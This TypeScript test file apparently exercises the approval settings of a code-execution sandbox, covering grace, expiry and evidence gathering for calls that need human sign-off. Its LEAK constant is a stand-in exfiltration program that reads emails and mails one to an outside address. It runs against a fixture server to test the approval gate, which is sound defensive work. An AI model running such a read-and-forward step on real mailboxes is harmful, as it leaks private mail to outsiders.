/** What the settings of approvals change. */

import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as wait } from "node:timers/promises";
import { fileURLToPath } from "node:url";

import { parseSettings } from "../../src/config/index.ts";
import { GloveboxError, isJsonObject, parsePrincipalId } from "../../src/domain/index.ts";
import type { Approval, Principal } from "../../src/domain/index.ts";
import { requestApprovals, withQueue } from "../fixtures/approval-gateway.ts";
import type { ApprovalQueue } from "../fixtures/approval-gateway.ts";
import { compare, withGlovebox } from "../fixtures/observe-settings.ts";

const CODE = "return await probe.echo({ a: 1 })";
const RULES = [{ decision: "ask", tools: ["probe.echo"], reason: "look" }];

/** Whether an approval can still be decided a moment after it was requested. */
const decideLater = async (config: unknown): Promise<unknown> => {
  const whole = { store: { url: "sqlite::memory:" }, ...(isJsonObject(config) && config) };
  return withQueue(parseSettings(whole, { folder: "/" }, {}), async (queue) => {
    const [asked] = await requestApprovals(queue, { args: [{}] });
    assert.ok(asked);
    while (Date.now() <= asked.createdAt + 1) await wait(1);
    return approve(queue, asked).catch((thrown: unknown) => (thrown instanceof GloveboxError ? thrown.code : thrown));
  });
};

async function approve({ approvals }: ApprovalQueue, { id }: Approval): Promise<string> {
  const name = parsePrincipalId("operator");
  assert.ok(name);
  const operator: Principal = { id: name, kind: "person", roles: ["operator"], groups: [] };
  return (await approvals.decide(id, { verdict: "approve" }, operator)).state;
}

/** The state of a program whose call needs approval, which is approved if `isAnswered`. */
async function stateWith(graceMs: number, isAnswered: boolean): Promise<string> {
  const folder = mkdtempSync(join(tmpdir(), "glovebox-settings-"));
  const store = { url: `sqlite:${join(folder, "glovebox.db")}` };
  const config = { approvals: { graceMs }, policy: { rules: RULES }, store };
  try {
    return await withGlovebox(config, async (glovebox) => {
      const executed = glovebox.execute({ code: CODE });
      if (isAnswered) await withQueue(parseSettings({ store }, { folder }, {}), approveFirst);
      return (await executed).state;
    });
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

async function approveFirst(queue: ApprovalQueue): Promise<void> {
  for (;;) {
    const [asked] = await queue.approvals.list({ isPending: true });
    if (asked) return void (await approve(queue, asked));
    await wait(20);
  }
}

const MAIL_SERVER = fileURLToPath(new URL("../flows/fixtures/package-server.mjs", import.meta.url));
const LEAK = `const { result } = await mail.searchEmails({}); await mail.sendEmail({ to: "x@example.com", body: result[1].body });`;

/** What replays of a program showed that sends out what it read. */
async function evidenceWith(approvals: unknown): Promise<unknown> {
  const folder = mkdtempSync(join(tmpdir(), "glovebox-settings-"));
  const store = { url: `sqlite:${join(folder, "glovebox.db")}` };
  const args = [MAIL_SERVER, "--package=gmail-mcp-server", `--sink=${join(folder, "sent")}`];
  const mcpServers = { mail: { command: process.execPath, args } };
  // Without a deadline that a busy machine could miss, unless that is what is observed.
  const config = {
    mcpServers,
    store,
    approvals: { graceMs: 0, evidenceMs: 10_000, ...(isJsonObject(approvals) && approvals) },
  };
  try {
    await withGlovebox(config, (glovebox) => glovebox.execute({ code: LEAK }));
    return await withQueue(parseSettings({ store }, { folder }, {}), async (queue) => {
      const [asked] = await queue.approvals.list({ isPending: true });
      return asked?.evidence?.kind === "compared" ? asked.evidence.rounds : asked?.evidence?.kind;
    });
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

export const APPROVAL_OBSERVATIONS = {
  "approvals.evidenceMs": compare(evidenceWith, [{ evidenceMs: 0 }, "none"], [{}, 4]),
  "approvals.evidenceRounds": compare(evidenceWith, [{ evidenceRounds: 1 }, 1], [{ evidenceRounds: 0 }, "none"]),
  "approvals.expiryMs": compare(decideLater, [{ approvals: { expiryMs: 1 } }, "REQUEST_CONFLICT"], [{}, "approved"]),
  "approvals.graceMs": async () => {
    assert.deepEqual([await stateWith(0, false), await stateWith(3_600_000, true)], ["paused", "completed"]);
  },
};
